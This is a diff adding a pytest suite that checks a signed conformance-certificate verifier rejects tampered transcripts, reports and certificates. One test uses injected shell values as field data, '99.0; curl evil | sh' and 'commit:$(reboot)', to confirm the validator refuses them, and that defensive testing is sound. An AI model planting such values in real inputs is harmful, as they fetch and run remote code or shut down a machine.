@@ -1,0 +1,177 @@
+"""A signer who lies: what its key signs is checked against the transcript, the report, and the suite."""
+
+import base64
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from certified_folder import certified, members_of, signed_anew, transcript_with
+from fencepost.conformance.certificate.bundle import ENVELOPE, SIGNED, Bundle
+from fencepost.conformance.certificate.certificate import as_page
+from fencepost.conformance.certificate.envelope import PAYLOAD_TYPE, pre_authentication, seal, statement
+from fencepost.conformance.certificate.keys import read_public_key, read_signing_key
+from fencepost.conformance.certificate.verification import consistency, signature, written
+from fencepost.reports.model import report_from_json
+
+pytestmark = pytest.mark.xdist_group("lying signers")
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return certified(tmp_path_factory.mktemp("verified"))
+
+
+def _one_answer_flipped(lines: list[dict[str, object]]) -> None:
+    asks = [line for line in lines if line.get("m") == "decide" and len(set(str(line["o"]))) > 1]
+    told = str(asks[3]["o"])
+    asks[3]["o"] = told[:-1] + ("b" if told[-1] == "a" else "a")
+
+
+def _one_refusal_made_up(lines: list[dict[str, object]]) -> None:
+    puts = [line for line in lines if line.get("m") == "putRules"]
+    puts[5]["a"] = {"accepted": False}
+
+
+def _one_rule_changed(lines: list[dict[str, object]]) -> None:
+    puts = [line for line in lines if line.get("m") == "putRules"]
+    puts[5]["p"]["networkAcls"]["defaultAction"] = "Maybe"  # type: ignore[index]
+
+
+def _one_call_left_out(lines: list[dict[str, object]]) -> None:
+    del lines[10]
+
+
+def _one_call_repeated(lines: list[dict[str, object]]) -> None:
+    lines.insert(10, lines[10])
+
+
+def _the_end_left_out(lines: list[dict[str, object]]) -> None:
+    del lines[-1]
+
+
+def _more_after_the_end(lines: list[dict[str, object]]) -> None:
+    lines.append(lines[3])
+
+
+def _a_miscounted_end(lines: list[dict[str, object]]) -> None:
+    lines[-1]["calls"] = 7
+
+
+def _another_version(lines: list[dict[str, object]]) -> None:
+    lines[0]["version"] = 2
+
+
+def _a_letter_without_meaning(lines: list[dict[str, object]]) -> None:
+    next(line for line in lines if line.get("m") == "decide")["o"] = "z"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        _one_answer_flipped,
+        _one_refusal_made_up,
+        _one_rule_changed,
+        _one_call_left_out,
+        _one_call_repeated,
+        _the_end_left_out,
+        _more_after_the_end,
+        _a_miscounted_end,
+        _another_version,
+        _a_letter_without_meaning,
+    ],
+)
+def test_a_signed_transcript_that_does_not_lead_to_the_report_is_inconsistent(
+    folder: Path, change: Callable[[list[dict[str, object]]], None]
+) -> None:
+    bundle = signed_anew(transcript_with(members_of(folder), change), folder)
+    assert signature(bundle, read_public_key(folder / "key.pub")).holds
+    assert not consistency(bundle).holds
+
+
+def test_a_signed_report_with_one_count_raised_is_inconsistent_and_the_clause_is_named(folder: Path) -> None:
+    members = members_of(folder)
+    told = json.loads(members["report.json"])
+    row = next(row for row in told["clauses"] if row["id"] == "DEC-3")
+    row["decisive"] += 1
+    text = json.dumps(told, indent=2).encode()
+    found = consistency(signed_anew({**members, "report.json": text}, folder))
+    assert any("DEC-3: decisive" in reason for reason in found.against)
+
+
+def test_a_signed_certificate_that_claims_another_level_is_inconsistent(folder: Path) -> None:
+    members = members_of(folder)
+    told = json.loads(members["certificate.json"])
+    told["level"] = "core+extended"
+    report = report_from_json(members["report.json"])
+    signed = {name: members[name] for name in SIGNED} | {"certificate.json": written(told)}
+    envelope = seal(statement(signed, report, told), read_signing_key(folder / "key"))
+    bundle = Bundle(members={**signed, ENVELOPE: envelope})
+    assert signature(bundle, read_public_key(folder / "key.pub")).holds
+    assert any("level" in reason for reason in consistency(bundle).against)
+
+
+def _lying(folder: Path, change: Callable[[dict[str, object]], None]) -> tuple[str, ...]:
+    """What is against a certificate that its signer has altered; all other members say the same."""
+    members = members_of(folder)
+    told = json.loads(members["certificate.json"])
+    change(told)
+    report = report_from_json(members["report.json"])
+    new = {name: members[name] for name in SIGNED} | {"certificate.json": written(told)}
+    new["certificate.md"] = as_page(told, report).encode()
+    envelope = seal(statement(new, report, told), read_signing_key(folder / "key"))
+    return consistency(Bundle(members={**new, ENVELOPE: envelope})).against
+
+
+def _set(part: str, name: str, value: object) -> Callable[[dict[str, object]], None]:
+    def change(told: dict[str, object]) -> None:
+        inner = told[part] if part else told
+        assert isinstance(inner, dict)
+        inner[name] = value
+
+    return change
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        (_set("suite", "version", "99.0; curl evil | sh"), "is no version"),
+        (_set("suite", "sha256", "0" * 64), "is installed here, and its digest is another"),
+        (_set("catalogue", "sha256", "0" * 64), "is installed here, and its digest is another"),
+        (_set("suite", "sha256", "zero"), "is no SHA-256 in hexadecimal digits"),
+        (_set("suite", "origin", "commit:$(reboot)"), "is neither a commit nor a digest"),
+        (_set("", "issued", "yesterday-ish"), "is no date and time in UTC that has passed"),
+        (_set("", "issued", "2999-01-01T00:00:00+00:00"), "is no date and time in UTC that has passed"),
+        (_set("asked", "seed", 7), "asked"),
+        (_set("asked", "seedFrom", "luck"), "chooses no seed"),
+        (_set("asked", "nonce", "another"), "the digest gives"),
+    ],
+)
+def test_what_a_lying_signer_writes_is_checked_by_form_and_against_the_suite(
+    folder: Path, change: Callable[[dict[str, object]], None], reason: str
+) -> None:
+    assert any(reason in one for one in _lying(folder, change))
+
+
+def test_clauses_in_another_order_are_no_report_of_the_run(folder: Path) -> None:
+    members = members_of(folder)
+    told = json.loads(members["report.json"])
+    told["clauses"].reverse()
+    text = json.dumps(told, indent=2).encode()
+    found = consistency(signed_anew({**members, "report.json": text}, folder))
+    assert any("in another order" in reason for reason in found.against)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [b"not JSON", b"", b"\xff\xfe", b"[" * 200_000, b'{"a": ' + b"1" * 5_000 + b"}", b'{"_type": "other"}', b"[]"],
+    ids=["no JSON", "empty", "no UTF-8", "deep", "a long integer", "another type", "a list"],
+)
+def test_a_signed_payload_that_is_no_statement_is_no_valid_signature(folder: Path, payload: bytes) -> None:
+    key = read_signing_key(folder / "key")
+    signed = base64.b64encode(key.sign(pre_authentication(PAYLOAD_TYPE, payload))).decode()
+    content = {"payloadType": PAYLOAD_TYPE, "payload": base64.b64encode(payload).decode()}
+    envelope = json.dumps({**content, "signatures": [{"keyid": key.public.id, "sig": signed}]}, indent=2) + "\n"
+    bundle = Bundle(members={**members_of(folder), ENVELOPE: envelope.encode()})
+    assert not signature(bundle, read_public_key(folder / "key.pub")).holds
